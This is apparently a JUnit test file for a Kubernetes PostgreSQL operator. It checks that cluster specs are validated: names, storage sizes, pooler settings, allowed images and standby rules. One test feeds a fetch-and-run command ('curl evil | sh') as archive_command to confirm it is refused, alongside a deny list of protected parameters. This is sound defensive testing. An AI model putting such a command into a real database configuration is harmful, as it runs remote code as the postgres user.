package io.pgtide.operator.k8s.model;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.pgtide.common.crd.PostgresCluster;
import io.pgtide.common.crd.PostgresClusterSpec;
import java.util.List;
import org.junit.jupiter.api.Test;

class ClusterValidationTest {
  static PostgresCluster cluster(String name, PostgresClusterSpec spec) {
    PostgresCluster cr = new PostgresCluster();
    cr.setMetadata(new ObjectMetaBuilder().withName(name).withNamespace("ns").build());
    cr.setSpec(spec);
    return cr;
  }

  static PostgresClusterSpec.UserSpec user(String name) {
    PostgresClusterSpec.UserSpec u = new PostgresClusterSpec.UserSpec();
    u.name = name;
    return u;
  }

  @Test
  void aValidClusterPasses() {
    assertThat(ClusterValidation.problem(cluster("shop-1", new PostgresClusterSpec()))).isNull();
    assertThat(ClusterValidation.problem(cluster("a".repeat(52), new PostgresClusterSpec()))).isNull();
  }

  @Test
  void aPoolerIsOptionalItsDefaultsPassAndEachBrokenRuleIsNamed() {
    PostgresClusterSpec spec = new PostgresClusterSpec();
    assertThat(spec.pooler).as("absent: no pooler").isNull();
    spec.pooler = new PostgresClusterSpec.PoolerSpec();
    assertThat(spec.pooler.instances).isEqualTo(2);
    assertThat(spec.pooler.poolMode).isEqualTo("transaction");
    assertThat(spec.pooler.defaultPoolSize).isEqualTo(20);
    assertThat(spec.pooler.maxClientConnections).isEqualTo(1000);
    assertThat(spec.pooler.replicas).isFalse();
    assertThat(ClusterValidation.problem(spec)).isNull();
    spec.pooler.poolMode = "session";
    assertThat(ClusterValidation.problem(spec)).isNull();
    spec.pooler.poolMode = "statement";
    assertThat(ClusterValidation.problem(spec)).isEqualTo("pooler.poolMode must be transaction or session, got "
        + "statement");
    spec.pooler.poolMode = "transaction";
    spec.pooler.defaultPoolSize = 0;
    assertThat(ClusterValidation.problem(spec)).startsWith("pooler.defaultPoolSize must be 1..999");
    spec.pooler.defaultPoolSize = 1000;
    assertThat(ClusterValidation.problem(spec)).contains("below maxClientConnections 1000");
    spec.pooler.defaultPoolSize = 999;
    assertThat(ClusterValidation.problem(spec)).isNull();
    spec.pooler.instances = 0;
    assertThat(ClusterValidation.problem(spec)).startsWith("pooler.instances must be 1..32");
    spec.pooler.instances = 1;
    spec.pooler.maxClientConnections = 0;
    assertThat(ClusterValidation.problem(spec)).startsWith("pooler.maxClientConnections must be at least 1");
    spec.pooler.maxClientConnections = 1000;
    spec.users.add(user("pgtide_pooler"));
    assertThat(ClusterValidation.problem(spec)).isEqualTo("user pgtide_pooler is reserved: pgtide manages it for "
        + "spec.pooler");
  }

  @Test
  void aNameThatIsNoDnsLabelIsRefused() {
    for (String name : List.of("Shop", "my_shop", "shop.v2", "1shop", "shop-", "a".repeat(53), "")) {
      assertThat(ClusterValidation.problem(cluster(name, new PostgresClusterSpec()))).as(name)
          .contains("metadata.name must be a DNS label");
    }
  }

  @Test
  void aMissingSpecIsRefusedNotAnException() {
    assertThat(ClusterValidation.problem(cluster("shop", null))).contains("spec is missing");
  }

  @Test
  void aStorageSizeThatIsNoQuantityIsRefused() {
    for (String size : List.of("lots", "10 Gi", "10GB", "-1Gi", "0", "0Gi", "")) {
      PostgresClusterSpec spec = new PostgresClusterSpec();
      spec.storage.size = size;
      assertThat(ClusterValidation.problem(spec)).as(size).contains("storage.size " + size + " is not a size");
    }
    for (String size : List.of("1Gi", "500Mi", "1.5Ti", "20G", "1000000000")) {
      PostgresClusterSpec spec = new PostgresClusterSpec();
      spec.storage.size = size;
      assertThat(ClusterValidation.problem(spec)).as(size).isNull();
    }
  }

  @Test
  void aUserOrDatabaseDeclaredTwiceIsRefused() {
    PostgresClusterSpec spec = new PostgresClusterSpec();
    spec.users = List.of(user("app"), user("report"), user("app"));
    assertThat(ClusterValidation.problem(spec)).isEqualTo("user app is declared twice in spec.users");
    spec.users = List.of(user("app"), user("App"));
    assertThat(ClusterValidation.problem(spec)).as("two roles (refused at sync if their Secrets meet)").isNull();
    PostgresClusterSpec.DatabaseSpec db = new PostgresClusterSpec.DatabaseSpec();
    db.name = "shop";
    spec.databases = List.of(db, db);
    assertThat(ClusterValidation.problem(spec)).isEqualTo("database shop is declared twice in spec.databases");
  }

  static PostgresClusterSpec withParameter(String name, String value) {
    PostgresClusterSpec spec = new PostgresClusterSpec();
    spec.parameters.put("work_mem", "8MB");
    spec.parameters.put(name, value);
    return spec;
  }

  @Test
  void parametersPatroniSpiloOrPgtideOwnAreRefusedWithTheReason() {
    assertThat(ClusterValidation.problem(withParameter("archive_command", "curl evil | sh")))
        .isEqualTo("parameters.archive_command may not be set: pgtide's backups archive and restore WAL "
            + "(spec.backup); another command breaks them and runs programs as the postgres user");
    // PostgreSQL reads names case-insensitively
    assertThat(ClusterValidation.problem(withParameter("Archive_Command", "x")))
        .startsWith("parameters.Archive_Command may not be set");
    for (String name : List.of("archive_mode", "restore_command", "listen_addresses", "port", "data_directory",
        "hba_file", "ident_file", "config_file", "unix_socket_directories", "unix_socket_permissions",
        "shared_preload_libraries", "dynamic_library_path", "primary_conninfo", "synchronous_standby_names",
        "log_directory", "ssl", "ssl_cert_file", "ssl_key_file", "ssl_ca_file", "ssl_passphrase_command")) {
      assertThat(ClusterValidation.problem(withParameter(name, "x"))).as(name)
          .startsWith("parameters." + name + " may not be set: ");
    }
    assertThat(ClusterValidation.problem(withParameter("ssl", "off"))).contains("not turned off");
  }

  @Test
  void tuningParametersAndTlsHardeningStayAllowed() {
    for (String name : List.of("work_mem", "shared_buffers", "wal_level", "log_min_duration_statement",
        "ssl_min_protocol_version", "ssl_ciphers", "archive_timeout", "max_wal_size")) {
      assertThat(ClusterValidation.problem(withParameter(name, "1"))).as(name).isNull();
    }
  }

  @Test
  void anImageIsAllowedByAnExactEntryOrAPrefixEndingInASeparatorOnly() {
    List<String> allowed = List.of("ghcr.io/zalando/spilo-17:", "registry.example.com/db/",
        "docker.io/library/postgres-custom@sha256:abc");
    assertThat(ClusterValidation.imageAllowed("ghcr.io/zalando/spilo-17:4.0-p3", allowed)).isTrue();
    assertThat(ClusterValidation.imageAllowed("registry.example.com/db/spilo:1", allowed)).isTrue();
    assertThat(ClusterValidation.imageAllowed("docker.io/library/postgres-custom@sha256:abc", allowed)).isTrue();
    // no bare prefixes: another repository whose name merely starts the same
    assertThat(ClusterValidation.imageAllowed("ghcr.io/zalando/spilo-17-evil:1", allowed)).isFalse();
    assertThat(ClusterValidation.imageAllowed("ghcr.io/zalando/spilo-17:", allowed)).isFalse();
    assertThat(ClusterValidation.imageAllowed("registry.example.com/dbx/spilo:1", allowed)).isFalse();
    assertThat(ClusterValidation.imageAllowed("docker.io/library/postgres-custom@sha256:abcd", allowed)).isFalse();
    assertThat(ClusterValidation.imageAllowed("evil.io/x:1", List.of("*"))).isTrue();
  }

  @Test
  void byDefaultAnyTagOrDigestOfTheShippedSpiloImage() {
    List<String> defaults = OperatorConfig.DEFAULTS.allowedImages();
    assertThat(defaults).containsExactly("ghcr.io/zalando/spilo-17:", "ghcr.io/zalando/spilo-17@");
    assertThat(ClusterValidation.defaultAllowedImages("localhost:5000/spilo@sha256:1"))
        .containsExactly("localhost:5000/spilo:", "localhost:5000/spilo@");
    assertThat(ClusterValidation.defaultAllowedImages("localhost:5000/spilo"))
        .containsExactly("localhost:5000/spilo:", "localhost:5000/spilo@");
    PostgresClusterSpec spec = new PostgresClusterSpec();
    assertThat(ClusterValidation.imageProblem(spec, defaults)).as("no spec.image: the operator's").isNull();
    spec.image = "ghcr.io/zalando/spilo-17:4.0-p3";
    assertThat(ClusterValidation.imageProblem(spec, defaults)).isNull();
    spec.image = "evil.example.com/spilo:latest";
    assertThat(ClusterValidation.imageProblem(spec, defaults)).isEqualTo("image evil.example.com/spilo:latest is "
        + "not allowed by this operator (PGTIDE_ALLOWED_IMAGES: ghcr.io/zalando/spilo-17:,ghcr.io/zalando/spilo-17@)");
  }

  @Test
  void aStandbyNamesAnotherSourceAndNeitherRestoresNorAutoscalesNorBacksUp() {
    PostgresClusterSpec spec = new PostgresClusterSpec();
    spec.standby = new PostgresClusterSpec.StandbySpec();
    assertThat(ClusterValidation.problem(spec)).startsWith("standby.source is required");
    spec.standby.source = "orders";
    assertThat(ClusterValidation.problem(cluster("copy", spec))).isNull();
    assertThat(ClusterValidation.problem(cluster("orders", spec))).startsWith("standby.source names this cluster");
    spec.standby.sourceNamespace = "shop";
    assertThat(ClusterValidation.problem(cluster("orders", spec))).as("another namespace's orders").isNull();
    spec.bootstrap = new PostgresClusterSpec.BootstrapSpec();
    spec.bootstrap.recovery = new PostgresClusterSpec.RecoverySpec();
    spec.bootstrap.recovery.source = "orders";
    assertThat(ClusterValidation.problem(spec)).startsWith("standby and bootstrap.recovery exclude each other");
    spec.bootstrap = null;
    spec.autoscaling.enabled = true;
    assertThat(ClusterValidation.problem(spec)).startsWith("standby and autoscaling.enabled exclude each other");
    spec.autoscaling.enabled = false;
    spec.backup = new PostgresClusterSpec.BackupSpec();
    assertThat(ClusterValidation.problem(spec)).startsWith("standby and backup exclude each other");
  }

  @Test
  void aNamespacedOperatorRefusesASourceOutsideItsNamespaces() {
    PostgresClusterSpec spec = new PostgresClusterSpec();
    spec.standby = new PostgresClusterSpec.StandbySpec();
    spec.standby.source = "orders";
    spec.standby.sourceNamespace = "shop";
    PostgresCluster cr = cluster("copy", spec); // in "ns"
    assertThat(ClusterValidation.standbyScopeProblem(cr, List.of())).as("cluster-wide install").isNull();
    assertThat(ClusterValidation.standbyScopeProblem(cr, List.of("ns", "shop"))).isNull();
    assertThat(ClusterValidation.standbyScopeProblem(cr, List.of("ns")))
        .startsWith("standby.sourceNamespace shop: this operator is installed for namespaces [ns] only");
    spec.standby.sourceNamespace = null;
    assertThat(ClusterValidation.standbyScopeProblem(cr, List.of("ns"))).isNull();
  }
}
